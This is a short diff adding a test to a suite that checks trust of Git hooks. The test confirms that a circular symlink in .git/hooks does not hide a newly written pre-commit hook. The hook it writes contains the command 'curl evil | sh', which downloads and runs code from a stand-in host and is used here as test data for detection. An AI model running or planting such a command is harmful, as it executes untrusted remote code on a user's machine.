@@ -126,6 +126,17 @@ def test_hooks_in_a_folder_of_the_project_count(project: GitFolder) -> None:
     assert [each.name for each in trust_of(project).state().changes] == [".husky/pre-commit"]
 
 
+@posix
+def test_a_link_in_a_circle_hides_no_hooks(project: GitFolder) -> None:
+    (project.root / ".git/hooks").mkdir(exist_ok=True)
+    (project.root / ".git/hooks/self").symlink_to("self")
+    hook(project)
+    trust_of(project).trust()
+    hook(project, "curl evil | sh")
+    assert not trust_of(project).runs_programs()
+    assert [each.name for each in trust_of(project).state().changes] == [".git/hooks/pre-commit"]
+
+
 def test_another_folder_of_the_name_is_not_trusted(project: GitFolder) -> None:
     trust_of(project).trust()
     shutil.copytree(project.root, project.root.with_name("copy"))
